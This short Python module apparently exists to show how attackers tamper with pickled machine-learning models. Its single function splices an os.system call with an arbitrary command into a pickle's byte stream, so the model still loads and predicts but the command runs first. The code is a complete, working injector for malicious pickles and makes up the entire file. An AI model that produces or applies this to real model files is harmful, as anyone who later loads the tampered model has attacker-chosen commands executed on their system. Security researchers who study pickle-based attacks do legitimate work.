"""Tamper with a pickle as attackers do: the model still loads and predicts, and a command runs first."""

from __future__ import annotations

PROTO = b"\x80"


def implant(pickled: bytes, command: str) -> bytes:
    """The same pickle with a call of ``os.system(command)`` in front. Nothing is run here; loading it
    would."""
    head, body = (pickled[:2], pickled[2:]) if pickled.startswith(PROTO) else (b"", pickled)
    text = command.encode("utf-8")
    call = b"cos\nsystem\n" + b"X" + len(text).to_bytes(4, "little") + text + b"\x85R0"
    return head + call + body
